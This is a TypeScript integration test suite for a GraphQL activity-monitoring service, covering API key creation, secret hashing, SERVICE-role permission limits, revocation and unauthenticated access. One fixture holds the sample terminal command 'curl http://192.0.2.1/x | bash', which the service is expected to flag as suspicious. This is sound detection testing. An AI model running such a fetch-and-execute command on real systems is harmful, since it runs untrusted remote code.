import { createHash } from 'node:crypto';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, data, track } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { adminKey, startService } from '../harness/service.ts';

let service: Service;
beforeAll(async () => {
  service = await startService();
});
afterAll(() => service.close());

type Created = {
  apiKey: { id: string; name: string; role: string; createdAt: string; createdBy: string; revokedAt: null };
  secret: string;
};

async function createKey(input: object): Promise<Created & { userErrors: { code: string; field: string[] }[] }> {
  const { createApiKey } = await data(
    service,
    `mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) {
      apiKey { id name role createdAt createdBy revokedAt } secret userErrors { code field } } }`,
    { input },
  );
  return createApiKey;
}
async function revoke(id: string) {
  const { revokeApiKey } = await data(
    service,
    'mutation($id: ID!) { revokeApiKey(input: { id: $id }) { apiKey { id name revokedAt } userErrors { code field } } }',
    { id },
  );
  return revokeApiKey;
}
const codesOf = async (query: string, key: string, variables: object = {}) =>
  (await ask(service, query, variables, key)).errors?.map((error) => error.extensions.code) ?? [];

const attack = { user: 'ada', session: 'ada-1', detail: { terminal: { command: 'curl http://192.0.2.1/x | bash' } } };
const trackAnd = (fields: string) =>
  `mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { ${fields} } userErrors { code } } }`;

describe('a new key', () => {
  it('is shown with its secret once, and works at once', async () => {
    const { apiKey, secret, userErrors } = await createKey({ name: 'billing 🧾', role: 'SERVICE' });
    expect(userErrors).toEqual([]);
    expect(apiKey).toMatchObject({ name: 'billing 🧾', role: 'SERVICE', revokedAt: null });
    const { viewer } = await data(service, '{ viewer { name role organisation { name } } }', {}, secret);
    expect(viewer).toEqual({ name: 'billing 🧾', role: 'SERVICE', organisation: { name: 'default' } });
    const admin = await data(service, '{ viewer { name role } }');
    expect([admin.viewer.role, admin.viewer.name]).toEqual(['ADMIN', apiKey.createdBy]);
  });

  it('has a name that can be stored, of 1 to 1,024 characters', async () => {
    const names: [name: string, errors: string[]][] = [
      ['x', []],
      ['x'.repeat(1_024), []],
      ['x'.repeat(1_025), ['TOO_LONG']],
      [' ', ['BLANK']],
      ['a\0', ['BAD_CHARACTER']],
    ];
    for (const [name, errors] of names) {
      const created = await createKey({ name, role: 'ADMIN' });
      expect(created.userErrors.map(({ code, field }) => `${code} ${field.join('.')}`)).toEqual(errors.map((code) => `${code} input.name`));
      expect(created.secret === null).toBe(errors.length > 0);
    }
  });

  it('leaves only a hash of its secret behind: in no table, no log line, no answer', async () => {
    const { apiKey, secret } = await createKey({ name: 'hidden', role: 'ADMIN' });
    await data(service, '{ viewer { name } activities { nodes { id } } }', {}, secret);
    const client = new Client({ connectionString: service.databaseUrl });
    await client.connect();
    const tables = await client.query(
      `select format('%I', relname) as name from pg_class where relkind in ('r', 'p') and relnamespace = 'public'::regnamespace`,
    );
    const dumps: string[] = [];
    for (const { name } of tables.rows) dumps.push(JSON.stringify((await client.query(`select t::text from ${name} t`)).rows));
    await client.end();
    expect(dumps.filter((dump) => dump.includes(secret) || dump.includes(secret.slice(-20)))).toEqual([]);
    expect(dumps.filter((dump) => dump.includes(adminKey))).toEqual([]);
    expect(dumps.filter((dump) => dump.includes(createHash('sha256').update(secret).digest('hex')))).toHaveLength(1);
    expect(service.logLines.filter((line) => line.includes(secret) || line.includes(adminKey))).toEqual([]);
    const { __type } = await data(service, '{ __type(name: "ApiKey") { fields { name } } }');
    expect(__type.fields.map((field: { name: string }) => field.name)).not.toContain('secret');
    expect(apiKey.id).not.toContain(secret.slice(-20));
  });

  it('differs from every other', async () => {
    const keys = await Promise.all(Array.from({ length: 20 }, () => createKey({ name: 'same', role: 'SERVICE' })));
    expect(new Set(keys.map((key) => key.secret)).size).toBe(20);
    expect(new Set(keys.map((key) => key.apiKey.id)).size).toBe(20);
  });
});

describe('a SERVICE key', () => {
  let key: string;
  beforeAll(async () => {
    key = (await createKey({ name: 'service', role: 'SERVICE' })).secret;
  });

  it('tracks activities and reads its receipts', async () => {
    const { trackActivity } = await data(
      service,
      trackAnd(`duplicate cursor sessionStatus risk { score level factors { code points reason } }
        anomalies { id type reference score level summary count details alertId resolved }
        activity { id uuid cursor type occurredAt recordedAt sourceIp outcome metadata risk { score } ... on TerminalActivity { command } }`),
      { input: attack },
      key,
    );
    expect(trackActivity.receipt).toMatchObject({ duplicate: false, sessionStatus: 'ACTIVE', activity: { type: 'COMMAND' } });
    expect(trackActivity.receipt.anomalies.map((anomaly: { type: string }) => anomaly.type)).toContain('SUSPICIOUS_COMMAND');
  });

  it.each([
    'activity { user { activities { nodes { id } } } }',
    'activity { user { externalId } }',
    'activity { session { externalId } }',
    'activity { anomalies { alert { id } } }',
    'anomalies { user { externalId } }',
    'anomalies { session { activities { nodes { id } } } }',
    'anomalies { evidence { nodes { id } } }',
    'anomalies { alert { id } }',
  ])('gets no further from a receipt than its own activity: %s', async (fields) => {
    const { data: answer, errors } = await ask(service, trackAnd(fields), { input: attack }, key);
    expect(new Set(errors?.map((error) => error.extensions.code))).toEqual(new Set(['FORBIDDEN']));
    expect(JSON.stringify(answer)).not.toMatch(/"(?:externalId|nodes|id)":/);
  });

  it('may use no other field of the API', async () => {
    const { __schema } = await data(
      service,
      `{ __schema { types { name kind fields { name args { name type { kind ofType { kind name } } }
        type { kind name ofType { kind name ofType { kind name ofType { kind name } } } } } inputFields { name type { kind ofType { name } } } } } }`,
    );
    type Type = { kind: string; name?: string; ofType?: Type };
    const nameOf = (type: Type): string => type.name ?? nameOf(type.ofType!);
    const kinds = new Map<string, string>(__schema.types.map((type: { name: string; kind: string }) => [type.name, type.kind]));
    const values: Record<string, string> = { id: '"QWxlcnQ6MQ=="', ids: '["QWxlcnQ6MQ=="]', externalId: '"ada"' };
    const inputs: Record<string, string> = { createApiKey: '{ name: "x", role: ADMIN }' };
    for (const root of ['Query', 'Mutation']) {
      const fields: { name: string; args: { name: string; type: Type }[]; type: Type }[] = __schema.types.find(
        (type: { name: string }) => type.name === root,
      ).fields;
      const refused = fields.map(({ name }) => name).filter((name) => !['viewer', 'trackActivity', 'trackActivities'].includes(name));
      expect(refused.length).toBeGreaterThan(7);
      for (const { name, args, type } of fields.filter((field) => refused.includes(field.name))) {
        const given = args
          .filter((argument) => argument.type.kind === 'NON_NULL' && (values[argument.name] || argument.name === 'input'))
          .map((argument) => `${argument.name}: ${values[argument.name] ?? inputs[name] ?? '{ id: "QWxlcnQ6MQ==" }'}`);
        const selection = kinds.get(nameOf(type)) === 'SCALAR' ? '' : '{ __typename }';
        const query = `${root.toLowerCase()} { ${name}${given.length > 0 ? `(${given.join(', ')})` : ''} ${selection} }`;
        expect([name, await codesOf(query, key)]).toEqual([name, ['FORBIDDEN']]);
      }
    }
  });

  it.each(['activityRecorded', 'highRiskActivity', 'sessionChanged', 'anomalyDetected', 'alertChanged'])(
    'may not follow %s',
    async (stream) => {
      const response = await fetch(service.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'text/event-stream', authorization: `Bearer ${key}` },
        body: JSON.stringify({ query: `subscription { ${stream} { __typename } }` }),
      });
      expect(/"code":"(\w+)"/.exec(await response.text())?.[1]).toBe('FORBIDDEN');
    },
  );

  it('is refused one field without losing the others of the same request', async () => {
    const { data: answer, errors } = await ask(service, '{ viewer { role } users { nodes { id } } }', {}, key);
    expect(answer).toEqual({ viewer: { role: 'SERVICE' }, users: null });
    expect(errors?.map((error) => [error.path, error.extensions.code])).toEqual([[['users'], 'FORBIDDEN']]);
  });
});

describe('a revoked key', () => {
  it('is unauthenticated from the next request on', async () => {
    const { apiKey, secret } = await createKey({ name: 'short', role: 'SERVICE' });
    await track(service, attack, secret);
    const { apiKey: revoked, userErrors } = await revoke(apiKey.id);
    expect([userErrors, revoked.id, revoked.revokedAt === null]).toEqual([[], apiKey.id, false]);
    expect(await codesOf('{ viewer { name } }', secret)).toEqual(['UNAUTHENTICATED']);
    expect(await codesOf(trackAnd('cursor'), secret, { input: attack })).toEqual(['UNAUTHENTICATED']);
  });

  it('cannot be revoked again, nor can what is no key', async () => {
    const { apiKey } = await createKey({ name: 'twice', role: 'SERVICE' });
    const codes = async (id: string) =>
      (await revoke(id)).userErrors.map(({ code, field }: { code: string; field: string[] }) => `${code} ${field.join('.')}`);
    expect(await codes(apiKey.id)).toEqual([]);
    expect(await codes(apiKey.id)).toEqual(['CONFLICT input.id']);
    expect(await codes('QWxlcnQ6MQ==')).toEqual(['NOT_FOUND input.id']);
    expect(await codes('')).toEqual(['NOT_FOUND input.id']);
  });
});

describe('without a key', () => {
  it.each(['', 'nonsense', `${adminKey}x`, adminKey.toUpperCase()])('the API is closed: %j', async (key) => {
    expect(await codesOf('{ viewer { name } }', key)).toEqual(['UNAUTHENTICATED']);
    expect(await codesOf('{ __schema { types { name } } }', key)).toEqual(['UNAUTHENTICATED']);
    expect(await codesOf('{ this is no document', key)).toEqual(['UNAUTHENTICATED']);
  });
});
